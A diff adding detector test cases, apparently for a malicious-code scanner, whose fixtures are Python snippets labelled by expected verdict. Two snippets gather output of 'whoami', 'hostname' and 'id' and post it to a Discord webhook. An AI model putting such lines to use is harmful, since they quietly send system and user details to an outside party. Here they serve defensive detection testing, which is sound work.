@@ -122,5 +122,22 @@ TEST(MaliciousSpellings, AsyncioStreams) {
   for (const auto& c : cases) check(c);
 }
 
+// What a shell line prints is what check_output/os.popen return: every
+// command of a list (whoami && hostname), not only the last.
+TEST(MaliciousSpellings, WhatShellLinesPrint) {
+  const Case cases[] = {
+      {"whoami && hostname via check_output, to a webhook", B,
+       "import subprocess, requests\nout = subprocess.check_output('whoami && hostname', shell=True, text=True)\n"
+       "requests.post('https://discord.com/api/webhooks/1/abc', json={'content': out})\n",
+       "COVERT-CHANNEL-EXFILTRATION"},
+      {"os.popen(...).read() to a webhook", B,
+       "import os, requests\nrequests.post('https://discord.com/api/webhooks/1/abc', json={'content': os.popen('whoami; id').read()})\n",
+       "COVERT-CHANNEL-EXFILTRATION"},
+      {"the host name printed on the terminal", M,
+       "import subprocess\nprint(subprocess.check_output('hostname && uptime', shell=True, text=True))\n", "RUNS-PROCESS"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
